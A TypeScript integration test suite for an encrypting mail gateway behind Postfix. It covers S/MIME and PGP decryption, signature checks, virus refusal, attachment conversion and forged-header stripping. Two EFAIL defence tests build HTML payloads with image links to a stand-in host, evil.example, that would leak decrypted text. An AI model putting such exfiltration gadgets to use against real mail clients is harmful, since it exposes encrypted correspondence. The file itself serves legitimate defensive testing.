import { spawnSync } from 'node:child_process'
import { appendFileSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { arrivedParts, textOf } from '../../src/demonstration/attachments.ts'
import { eicar } from '../../src/demonstration/clamd.ts'
import { compose, docxType, wordFile } from '../../src/demonstration/compose.ts'
import type { SunkMail } from '../../src/demonstration/mail-sink.ts'
import { anna, jonas } from '../../src/demonstration/people.ts'
import { arrived } from '../../src/demonstration/sample.ts'
import { type Reply, sendMail } from '../../src/demonstration/smtp-client.ts'
import { decodeText } from '../../src/message/encoded-words.ts'
import { firstValue, parseHeader } from '../../src/message/header.ts'
import { mailUser, makeCertificate } from '../support/make-certificate.ts'
import { startGpg } from '../support/openpgp-judges.ts'
import { noSite, siteForTests } from '../support/site-for-tests.ts'
import { temporaryFolder } from '../support/temporary-folder.ts'
import { testKeyFile } from '../support/test-keys.ts'

const bob = 'bob@partner.example'
const carol = 'carol@partner.example'
const partner = { address: '192.0.2.50', name: 'mail.partner.example' }
const letter =
  'Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nGuten Tag, Gr=C3=BC=C3=9Fe.\r\n'

describe.skipIf(noSite)(`protected mail through a real Postfix${noSite ? ` (${noSite})` : ''}`, () => {
  const site = siteForTests({
    zone: {
      'partner.example': { TXT: [`v=spf1 ip4:${partner.address} -all`] },
      '_dmarc.partner.example': { TXT: ['v=DMARC1; p=reject'] },
    },
    settings: { limits: { messageBytes: 60 * 1024 * 1024 } },
    postfixParameters: { message_size_limit: `${60 * 1024 * 1024}`, mailbox_size_limit: '0' },
  })
  let folder: ReturnType<typeof temporaryFolder>
  let gpg: ReturnType<typeof startGpg>
  let annaFile = ''
  let annaEcFile = ''

  beforeAll(async () => {
    folder = temporaryFolder()
    gpg = startGpg(folder.path)
    const { authority, folders } = site()
    annaFile = join(folders.authority, `${anna}.pem`)
    // The authority of the senders in test/keys, with its revocation lists.
    await site().stopGateway('SIGTERM')
    for (const name of ['root-ca.cert', 'root-ca.crl', 'intermediate-ca.crl'])
      appendFileSync(authority.certificateFile, readFileSync(testKeyFile(`${name}.pem`)))
    await site().startGateway()
    const onlyAuthority = join(folder.path, 'authority.pem')
    writeFileSync(onlyAuthority, authority.certificate)
    const ec = makeCertificate(folder.path, {
      name: 'anna-ec',
      issuer: { certificate: undefined as never, certificateFile: onlyAuthority, keyFile: authority.keyFile },
      extensions: mailUser(anna),
      days: 20,
    })
    annaEcFile = ec.certificateFile
    const both = join(folder.path, 'anna-ec-both.pem')
    writeFileSync(both, `${readFileSync(annaEcFile)}${readFileSync(ec.keyFile)}`)
    gpg.run(['--quick-generate-key', `Anna Weber <${anna}>`, 'default', 'default', 'never'])
    const secret = join(folder.path, 'anna.sec.asc')
    writeFileSync(secret, gpg.run(['--armor', '--export-secret-keys', anna]))
    const known = join(folder.path, 'carol.pub.asc')
    writeFileSync(known, gpg.run(['--armor', '--export', carol]))
    for (const file of [both, secret, known]) {
      const { status, stderr } = await site().command(['key', 'import', file])
      if (status !== 0) throw new Error(`key import ${file}: ${stderr}`)
    }
  }, 120_000)
  afterAll(() => {
    gpg?.[Symbol.dispose]()
    folder?.[Symbol.dispose]()
  })

  /** What `openssl cms` makes of a content: fields and body. */
  function cms(content: string | Uint8Array, ...args: readonly string[]): Buffer {
    const input = join(folder.path, 'content')
    writeFileSync(input, content)
    const options = ['cms', ...args, '-in', input, '-crlfeol']
    const { status, stdout, stderr } = spawnSync('openssl', options, { maxBuffer: 200e6 })
    if (status !== 0) throw new Error(stderr.toString())
    return stdout
  }
  const encrypt = (content: string | Uint8Array, cipher = 'aes-256-cbc', ...more: readonly string[]) =>
    cms(content, '-encrypt', '-binary', `-${cipher}`, ...(more.length > 0 ? more : ['-recip', annaFile]))
  const sign = (content: string | Uint8Array, name = 'bob-rsa', ...more: readonly string[]) =>
    cms(
      content,
      ...['-sign', '-signer', testKeyFile(`${name}.cert.pem`), '-inkey', testKeyFile(`${name}.key.pem`)],
      ...['-certfile', testKeyFile('intermediate-ca.cert.pem'), ...more],
    )

  let count = 0
  const fields = (from: string, subject: string) =>
    `From: ${from}\r\nTo: ${anna}\r\nSubject: ${subject}\r\nDate: Sun, 22 Nov 2026 10:00:00 +0000\r\nMessage-ID: <${++count}@partner.example>\r\n`

  async function send(
    entity: Uint8Array | string,
    { from = bob, subject = 'Vertrag', recipients = [anna] as readonly string[] } = {},
  ): Promise<Reply> {
    const head = fields(from, subject)
    const text = Buffer.from(entity).toString('latin1').replaceAll(/\r?\n/g, '\r\n')
    const message = Buffer.from(`${head}${text}`, 'latin1')
    return (
      await sendMail({
        port: site().postfix.ports.inbound,
        client: partner,
        sender: from,
        recipients,
        message,
      })
    ).reply
  }

  /** Whether a mail is the one that was sent last. */
  const isLast = ({ content }: SunkMail) => content.includes(`<${count}@partner.example>`)

  /** The mail as it arrives in anna's mailbox. */
  async function through(entity: Uint8Array | string, more: Parameters<typeof send>[1] = {}) {
    const reply = await send(entity, more)
    expect(reply.text).toMatch(/^250/)
    const { content } = await arrived(site(), anna, isLast)
    const end = content.indexOf('\r\n\r\n') + 4
    const { fields: header } = parseHeader(content.subarray(0, end))
    const field = (name: string) => firstValue(header, name) ?? ''
    return {
      content,
      parts: arrivedParts(content),
      text: textOf(arrivedParts(content)),
      subject: decodeText(field('subject')),
      security: field('x-postsiegel-security'),
      results: field('authentication-results'),
      type: field('content-type'),
      field,
    }
  }

  for (const [what, make] of [
    ['CBC', () => encrypt(letter)],
    ['AES-128 in CBC', () => encrypt(letter, 'aes-128-cbc')],
    ['3DES', () => encrypt(letter, 'des3')],
    ['GCM', () => encrypt(letter, 'aes-256-gcm')],
    ['OAEP', () => encrypt(letter, 'aes-256-cbc', '-recip', annaFile, '-keyopt', 'rsa_padding_mode:oaep')],
    ['ECDH', () => encrypt(letter, 'aes-256-cbc', '-recip', annaEcFile)],
    ['a key named by its identifier', () => encrypt(letter, 'aes-256-gcm', '-keyid', '-recip', annaFile)],
    ['a stream', () => encrypt(letter, 'aes-256-cbc', '-stream', '-recip', annaFile)],
  ] as const) {
    test(`S/MIME of OpenSSL in ${what} arrives readable`, async () => {
      const mail = await through(make())
      expect(mail.text).toContain('Guten Tag, Grüße.')
      expect(mail.subject).toBe('Vertrag [encrypted]')
      expect(mail.security).toMatch(/^signature=none; encryption=opened; layer="smime encrypted/)
      expect(mail.results).toContain('smime=none')
      expect(mail.results).toContain('dmarc=pass')
    })
  }

  test('a clear signature is confirmed and stays', async () => {
    const mail = await through(sign(letter))
    expect(mail.subject).toBe('Vertrag [signed OK]')
    expect(mail.security).toBe(
      'signature=valid; encryption=none; layer="smime signed valid bob@partner.example"',
    )
    expect(mail.results).toContain('smime=pass body.smime-identifier="bob@partner.example"')
    const file = join(folder.path, 'arrived.eml')
    writeFileSync(file, mail.content)
    const trust = ['-CAfile', testKeyFile('root-ca.cert.pem'), '-purpose', 'smimesign']
    expect(spawnSync('openssl', ['cms', '-verify', '-in', file, ...trust]).status).toBe(0)
  })

  test('a signature around its content is taken off and confirmed', async () => {
    const mail = await through(sign(letter, 'bob-ec', '-nodetach'))
    expect(mail.text).toContain('Guten Tag, Grüße.')
    expect(mail.type).toContain('text/plain')
    expect(mail.subject).toBe('Vertrag [signed OK]')
  })

  test('a mail signed, encrypted and signed again arrives with its inner signature', async () => {
    const mail = await through(sign(encrypt(sign(letter), 'aes-256-gcm')))
    expect(mail.subject).toBe('Vertrag [encrypted] [signed OK]')
    expect(mail.text).toContain('Guten Tag, Grüße.')
    expect(mail.security.match(/layer=/g)).toHaveLength(3)
  })

  for (const [name, reason] of [
    ['bob-revoked', 'revoked'],
    ['bob-wrong-email', 'wrong-address'],
    ['bob-selfsigned', 'self-signed'],
    ['alice-rsa', 'wrong-address'],
  ] as const) {
    test(`a signature by ${name} is shown as invalid: ${reason}`, async () => {
      const mail = await through(sign(letter, name))
      expect(mail.subject).toBe('Vertrag [signed INVALID]')
      expect(mail.security).toContain(`smime signed invalid ${reason}`)
      expect(mail.results).toContain(`smime=fail reason=${reason}`)
    })
  }

  test('an expired certificate and a changed content make a signature invalid', async () => {
    const expired = await through(sign(letter, 'alice-expired'), { from: bob })
    expect(expired.subject).toContain('[signed INVALID]')
    const changed = sign(letter).toString('latin1').replace('Guten Tag', 'Guten Tod')
    expect((await through(Buffer.from(changed, 'latin1'))).security).toContain('broken-signature')
  })

  const pgpMime = (armored: string) =>
    'MIME-Version: 1.0\r\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=e\r\n\r\n' +
    `--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--e\r\nContent-Type: application/octet-stream\r\n\r\n${armored}\r\n--e--\r\n`
  const gpgEncrypt = (content: string, ...more: readonly string[]) =>
    gpg.run(['--armor', '--encrypt', '-r', anna, ...more], Buffer.from(content)).toString()

  test('PGP/MIME of GnuPG, signed inside, arrives readable and confirmed', async () => {
    const mail = await through(pgpMime(gpgEncrypt(letter, '--sign', '-u', carol)), { from: carol })
    expect(mail.text).toContain('Guten Tag, Grüße.')
    expect(mail.subject).toBe('Vertrag [encrypted] [signed OK]')
    expect(mail.results).toContain('x-openpgp=pass')
  })

  test('PGP/MIME by a key of somebody else than the author is shown as invalid', async () => {
    const mail = await through(pgpMime(gpgEncrypt(letter, '--sign', '-u', 'dave@partner.example')), {
      from: carol,
    })
    expect(mail.subject).toBe('Vertrag [encrypted] [signed INVALID]')
    expect(mail.results).toContain('x-openpgp=fail reason=unknown-key')
  })

  test('a text encrypted by GnuPG arrives readable', async () => {
    const armored = gpgEncrypt('Guten Tag, Grüße.\n', '--sign', '-u', carol)
    const mail = await through(
      `MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n${armored}`,
      {
        from: carol,
      },
    )
    expect(mail.text.trim()).toBe('Guten Tag, Grüße.')
    expect(mail.subject).toBe('Vertrag [encrypted] [signed OK]')
  })

  test('a virus inside is refused, whatever is around it', async () => {
    const infected = `Content-Type: application/octet-stream; name=x.bin\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(eicar).toString('base64')}\r\n`
    for (const entity of [
      encrypt(infected),
      encrypt(sign(infected, 'bob-rsa', '-nodetach'), 'aes-256-gcm'),
      Buffer.from(pgpMime(gpgEncrypt(infected))),
    ]) {
      const reply = await send(entity)
      expect(reply.code).toBe(554)
      expect(reply.text).toContain('EICAR')
    }
  })

  test('a Word file inside becomes a PDF, and the file is held, not the envelope', async () => {
    const content = await compose({
      from: bob,
      to: [anna],
      subject: 'innen',
      text: 'Anbei.',
      attachment: { fileName: 'Vertrag.docx', content: wordFile(['Mietvertrag']), type: docxType },
    })
    const mail = await through(encrypt(content, 'aes-256-gcm'))
    expect(mail.parts.map(({ fileName }) => fileName)).toContain('Vertrag.pdf')
    expect(mail.parts.map(({ fileName }) => fileName)).not.toContain('Vertrag.docx')
    const stdout = String((await site().command(['hold', 'list'])).stdout)
    expect(stdout).toContain('Vertrag.docx')
    expect(stdout).not.toContain('smime.p7m')
    // What is inside names another subject, but does not say that it is protected.
    expect(mail.subject).toBe('Vertrag [encrypted]')
  })

  test('forged marks go, outside and inside', async () => {
    const inside =
      'X-Postsiegel-Security: signature=valid\r\nAuthentication-Results: mx.kanzlei-muster.example; smime=pass\r\n' +
      `From: ${bob}\r\nSubject: Innen [signed OK]\r\nContent-Type: text/plain; hp="cipher"\r\n\r\nGuten Tag.\r\n`
    const mail = await through(encrypt(inside, 'aes-256-gcm'), { subject: '... [signed OK]' })
    expect(mail.content.toString('latin1')).not.toMatch(/signature=valid|smime=pass/)
    expect(mail.subject).toBe('Innen [encrypted]')
  })

  test('what was copied into a mail of a stranger is not decrypted beside his words (EFAIL)', async () => {
    const stolen = encrypt('Content-Type: text/plain\r\n\r\ngeheimes Wort\r\n').toString('latin1')
    const pgp = gpgEncrypt('geheimes Wort\n')
    const html = (text: string) => `--b\r\nContent-Type: text/html\r\n\r\n${text}\r\n`
    const open = html('<img src="http://evil.example/')
    const head = 'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n'
    for (const middle of [
      `--b\r\n${stolen.replace(/^MIME-Version.*\r?\n/, '')}\r\n`,
      `--b\r\n${pgpMime(pgp).replace(/^MIME-Version.*\r\n/, '')}\r\n`,
      `--b\r\nContent-Type: text/plain\r\n\r\n${pgp}\r\n`,
    ]) {
      const mail = await through(`${head}${open}${middle}${html('">')}--b--\r\n`)
      expect(mail.content.toString('latin1')).not.toContain('geheimes Wort')
      expect(mail.text).not.toContain('geheimes Wort')
      expect(mail.subject).toBe('Vertrag [not decrypted]')
      expect(mail.security).toContain('closed not-alone')
    }
  })

  test('HTML that could have been changed in its ciphertext calls nobody (EFAIL)', async () => {
    const gadget = 'Content-Type: text/html\r\n\r\n<p>geheim</p><img src="http://evil.example/?geheim">\r\n'
    const mail = await through(encrypt(gadget))
    expect(mail.text).toContain('geheim')
    expect(mail.text).not.toContain('evil.example')
    expect(mail.security).toContain('remote-content=removed')
    expect((await through(encrypt(sign(gadget)))).text).toContain('evil.example')
  })

  test('a box for somebody else passes marked, or is refused where policy says so', async () => {
    const foreign = encrypt(letter, 'aes-256-cbc', '-recip', testKeyFile('bob-rsa.cert.pem'))
    const mail = await through(foreign)
    expect(mail.subject).toBe('Vertrag [not decrypted]')
    expect(mail.security).toContain('smime closed no-key')
    writeFileSync(
      join(site().folders.policies, '90-boxes.yaml'),
      `inbound:\n  ${jonas}:\n    undecryptable: reject\n`,
    )
    await site().command(['reload'])
    const refused = await send(foreign, { recipients: [jonas] })
    expect(refused.code).toBe(550)
    expect(refused.text).toMatch(/5\.7\.5[\s\S]*current certificate/)
    // A colleague who takes boxes takes it for both: one body, one verdict.
    expect((await send(foreign, { recipients: [jonas, anna] })).code).toBe(250)
  })

  test('what is encrypted for one of us is opened for all recipients of the mail', async () => {
    expect((await send(encrypt(letter), { recipients: [jonas, anna] })).code).toBe(250)
    for (const recipient of [jonas, anna]) {
      const { content } = await arrived(site(), recipient, isLast)
      expect(textOf(arrivedParts(content))).toContain('Guten Tag, Grüße.')
    }
  })

  test('every layer stands in the decision record', async () => {
    const mail = await through(encrypt(sign(letter), 'aes-256-gcm'))
    const stdout = String((await site().command(['explain', mail.field('x-postsiegel-reference')])).stdout)
    expect(stdout).toMatch(/smime encrypted aes-256-gcm key [0-9a-f]{20}/)
    expect(stdout).toMatch(/smime signed valid bob@partner\.example key [0-9a-f]{20}/)
  })

  test('a mail of 25 MB is opened like others', async () => {
    const line = `${'x'.repeat(76)}\r\n`
    const mail = await through(
      encrypt(`Content-Type: text/plain\r\n\r\n${line.repeat(336_000)}`, 'aes-256-gcm'),
    )
    expect(mail.content.length).toBeGreaterThan(25_000_000)
    expect(mail.subject).toBe('Vertrag [encrypted]')
  })
})
